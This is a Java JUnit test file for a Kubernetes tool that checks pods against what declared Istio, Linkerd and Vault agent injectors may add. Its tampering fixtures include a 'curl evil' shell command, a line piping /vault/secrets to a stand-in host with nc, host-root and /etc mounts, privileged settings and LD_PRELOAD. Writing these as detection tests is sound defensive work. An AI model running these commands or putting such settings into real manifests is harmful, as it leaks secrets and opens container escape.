package io.driftseal.workload;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.driftseal.workload.json.JsonArray;
import io.driftseal.workload.json.JsonObject;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Pods as the injectors of two meshes and of a secrets agent leave them ({@code injectors/*.json}:
 * what the administrator declares, the owner, the pod as it is stored), and pods that only look so.
 */
class InjectorTest {

    private static final ClusterFacts CLUSTER =
            ClusterFacts.known(
                    List.of(
                            Fixtures.json(
                                    "{\"apiVersion\":\"v1\",\"kind\":\"ServiceAccount\",\"metadata\":{\"name\":\"web\",\"namespace\":\"shop\"}}")));

    private static Derived derive(JsonObject document, JsonObject pod, JsonObject... declared) {
        JsonObject declarations =
                JsonObject.builder()
                        .put("version", 1)
                        .put("injectors", new JsonArray(List.of(declared)))
                        .build();
        return Derivation.of(
                Fixtures.workload(document.object("owner")),
                Fixtures.workload(pod),
                CLUSTER.with(Declarations.parse(declarations)));
    }

    private static JsonObject document(String name) {
        return Fixtures.read("injectors/" + name + ".json");
    }

    @ParameterizedTest
    @ValueSource(strings = {"istio", "linkerd", "linkerd-native", "vault-agent"})
    void explains_what_a_declared_injector_adds(String name) {
        // Given a pod as the injector leaves it, and its declaration
        JsonObject document = document(name);

        // When the pod is held against its owner
        Derived derived = derive(document, document.object("pod"), document.object("declaration"));

        // Then all is explained
        assertThat(derived.open().sentences(5)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"istio", "linkerd", "linkerd-native", "vault-agent"})
    void explains_nothing_of_an_injector_that_is_not_declared(String name) {
        // Given the same pod without any declaration, when held against its owner, then its
        // containers are named
        JsonObject document = document(name);
        assertThat(derive(document, document.object("pod")))
                .isInstanceOfSatisfying(
                        Derived.Unexplained.class,
                        derived ->
                                assertThat(derived.open().changes())
                                        .extracting(FieldChange::path)
                                        .anyMatch(path -> path.contains("ontainers[name=")));
    }

    static Stream<Arguments> abuses() {
        String istio = "spec/initContainers/1";
        String agent = "spec/containers/1";
        return Stream.of(
                Arguments.of(
                        "istio",
                        istio + "/image",
                        "\"docker.io/istio/proxyv2@sha256:" + "f".repeat(64) + "\"",
                        "spec.initContainers[name=istio-proxy].image"),
                Arguments.of(
                        "istio",
                        istio + "/image",
                        "\"docker.io/istio/proxyv2:1.28.0\"",
                        "spec.initContainers[name=istio-proxy].image"),
                Arguments.of(
                        "istio",
                        "spec/initContainers/0/securityContext/capabilities/add",
                        "[\"NET_ADMIN\",\"NET_RAW\",\"SYS_ADMIN\"]",
                        "spec.initContainers[name=istio-init].securityContext.capabilities.add"),
                Arguments.of(
                        "istio",
                        istio + "/securityContext/privileged",
                        "true",
                        "spec.initContainers[name=istio-proxy].securityContext.privileged"),
                Arguments.of(
                        "istio",
                        istio + "/volumeMounts/9",
                        "{\"name\":\"istio-data\",\"mountPath\":\"/host\"}",
                        "spec.initContainers[name=istio-proxy].volumeMounts[mountPath=/host]"),
                Arguments.of(
                        "istio",
                        istio + "/args/4",
                        "\"--proxyLogLevel=trace\"",
                        "spec.initContainers[name=istio-proxy].args[4]"),
                Arguments.of(
                        "istio",
                        istio + "/command",
                        "[\"/bin/sh\",\"-c\",\"curl evil\"]",
                        "spec.initContainers[name=istio-proxy].command"),
                Arguments.of(
                        "istio",
                        istio + "/env/16/value",
                        "\"payments\"",
                        "spec.initContainers[name=istio-proxy].env[name=ISTIO_META_WORKLOAD_NAME].value"),
                Arguments.of(
                        "istio",
                        istio + "/env/1/value",
                        "\"evil.example:15012\"",
                        "spec.initContainers[name=istio-proxy].env[name=CA_ADDR].value"),
                Arguments.of(
                        "istio",
                        istio + "/restartPolicy",
                        "\"Never\"",
                        "spec.initContainers[name=istio-proxy].restartPolicy"),
                Arguments.of(
                        "istio",
                        "metadata/labels/service.istio.io~1canonical-revision",
                        "\"evil\"",
                        "metadata.labels[service.istio.io/canonical-revision]"),
                Arguments.of(
                        "istio",
                        "spec/volumes/3",
                        "{\"name\":\"istio-envoy\",\"hostPath\":{\"path\":\"/\"}}",
                        "spec.volumes[name=istio-envoy]"),
                Arguments.of(
                        "istio",
                        "spec/containers/0/readinessProbe/httpGet/port",
                        "22",
                        "spec.containers[name=web].readinessProbe.httpGet"),
                Arguments.of(
                        "linkerd",
                        "spec/containers/0/env/7/value",
                        "\"everything\"",
                        "spec.containers[name=linkerd-proxy].env[name=LINKERD2_PROXY_INBOUND_DEFAULT_POLICY].value"),
                Arguments.of(
                        "linkerd",
                        "spec/containers/0/env/10/value",
                        "\"" + "9".repeat(65) + "\"",
                        "spec.containers[name=linkerd-proxy].env[name=LINKERD2_PROXY_INBOUND_PORTS].value"),
                Arguments.of(
                        "vault-agent",
                        agent + "/args/0",
                        "\"cat /vault/secrets/* | nc evil 1\"",
                        "spec.containers[name=vault-agent].args[0]"),
                Arguments.of(
                        "vault-agent",
                        "spec/containers/0/volumeMounts/0/mountPath",
                        "\"/etc\"",
                        "spec.containers[name=web].volumeMounts[mountPath=/etc]"),
                Arguments.of(
                        "vault-agent",
                        "spec/containers/0/env",
                        "[{\"name\":\"LD_PRELOAD\",\"value\":\"/vault/secrets/x.so\"}]",
                        "spec.containers[name=web].env[name=LD_PRELOAD]"));
    }

    @ParameterizedTest(name = "{0}: {1} = {2}")
    @MethodSource("abuses")
    void leaves_unexplained_what_carries_an_injectors_name(
            String name, String path, String value, String field) {
        // Given an injected pod with one thing changed
        JsonObject document = document(name);
        JsonObject pod =
                path.endsWith("volumeMounts/9")
                        ? JsonEdits.append(
                                document.object("pod"), path.substring(0, path.length() - 2), value)
                        : path.contains("~1")
                                ? relabelled(document.object("pod"), path, value)
                                : JsonEdits.set(document.object("pod"), path, value);

        // When it is held against its owner
        Derived derived = derive(document, pod, document.object("declaration"));

        // Then the field is named
        assertThat(derived).isInstanceOf(Derived.Unexplained.class);
        assertThat(derived.open().changes())
                .extracting(FieldChange::path)
                .anyMatch(changed -> changed.startsWith(field));
    }

    private static JsonObject relabelled(JsonObject pod, String path, String value) {
        JsonObject metadata = pod.object("metadata");
        String key = path.substring(path.lastIndexOf('/') + 1).replace("~1", "/");
        return pod.with(
                "metadata",
                metadata.with(
                        "labels", metadata.object("labels").with(key, value.replace("\"", ""))));
    }

    @Test
    void takes_of_two_versions_of_an_injector_the_one_that_fits() {
        // Given an upgrade: two declarations with the same containers and different images
        JsonObject document = document("istio");
        JsonObject now = document.object("declaration");
        JsonObject next =
                Fixtures.json(
                        now.toString()
                                .replace("b".repeat(64), "9".repeat(64))
                                .replace("\"name\":\"istio\",", "\"name\":\"istio-next\","));
        JsonObject upgraded =
                Fixtures.json(
                        document.object("pod").toString().replace("b".repeat(64), "9".repeat(64)));

        // When pods of both are held against their owner, then both are explained in either order
        for (JsonObject pod : List.of(document.object("pod"), upgraded)) {
            assertThat(derive(document, pod, now, next)).isInstanceOf(Derived.Explained.class);
            assertThat(derive(document, pod, next, now)).isInstanceOf(Derived.Explained.class);
        }
    }

    @Test
    void works_only_in_the_namespaces_that_are_named() {
        // Given an injector that is declared for another namespace
        JsonObject document = document("linkerd");
        JsonObject elsewhere =
                JsonEdits.set(document.object("declaration"), "namespaces", "[\"bank\"]");

        // When the pod is held against its owner, then the injector explains nothing
        assertThat(derive(document, document.object("pod"), elsewhere))
                .isInstanceOf(Derived.Unexplained.class);
    }

    static Stream<Arguments> badDeclarations() {
        return Stream.of(
                Arguments.of("author", "\"\"", "no author"),
                Arguments.of("reason", "\" \"", "no reason"),
                Arguments.of("ignore", "[\"env\"]", "unknown member ignore"),
                Arguments.of("shape/sidecars", "[]", "unknown member shape.sidecars"),
                Arguments.of("shape/initContainers", "[]", "adds no container"),
                Arguments.of("shape/initContainers/1/image", "\"proxy:1\"", "not pinned"),
                Arguments.of(
                        "shape/initContainers/1/image",
                        "\"*@sha256:" + "b".repeat(64) + "\"",
                        "not pinned"),
                Arguments.of("shape/initContainers/1/image", "\"${workload}\"", "not pinned"),
                Arguments.of("shape/initContainers/1/name", "\"${workload}\"", "no fixed name"),
                Arguments.of("shape/initContainers/1/args/0", "\"${probers}\"", "free text"),
                Arguments.of("shape/initContainers/1/args/0", "\"${other}\"", "not declared"),
                Arguments.of("shape/initContainers/1/command", "[\"${probers}\"]", "free text"),
                Arguments.of(
                        "shape/initContainers/1/env/0/value",
                        "\"${probers}${pod-ports}\"",
                        "two parameters"),
                Arguments.of("parameters/unused", "{\"from\":\"namespace\"}", "not used"),
                Arguments.of("parameters/workload", "{\"pattern\":\".*\"}", "a parameter is"),
                Arguments.of("parameters/workload", "{\"from\":\"pod\"}", "a parameter is"),
                Arguments.of(
                        "parameters/probers", "{\"text\":{\"maximumLength\":9000}}", "1 to 8192"),
                Arguments.of(
                        "shape/otherContainers/0/rewrites/0/field",
                        "\"securityContext.privileged\"",
                        "only these fields"));
    }

    @ParameterizedTest(name = "{0} = {1}")
    @MethodSource("badDeclarations")
    void refuses_a_declaration_that_would_let_more_pass(String path, String value, String named) {
        // Given a good declaration with one thing changed, when read, then it is refused, and the
        // message names the injector and the mistake
        JsonObject declaration =
                JsonEdits.set(document("istio").object("declaration"), path, value);
        assertThatThrownBy(() -> Injector.parse(declaration))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("istio")
                .hasMessageContaining(named);
    }

    @Test
    void reads_the_example_of_the_guide() throws java.io.IOException {
        // Given the declaration that the guide shows, when read, then it is a good one
        String guide =
                java.nio.file.Files.readString(
                        java.nio.file.Path.of("..", "docs", "guide", "security-team.md"));
        int begin = guide.indexOf("```json\n{\"version\"") + "```json".length();
        String example = guide.substring(begin, guide.indexOf("```", begin));
        assertThat(Declarations.parse(Fixtures.json(example.strip())).injectors())
                .extracting(Injector::name)
                .containsExactly("mesh");
    }
}
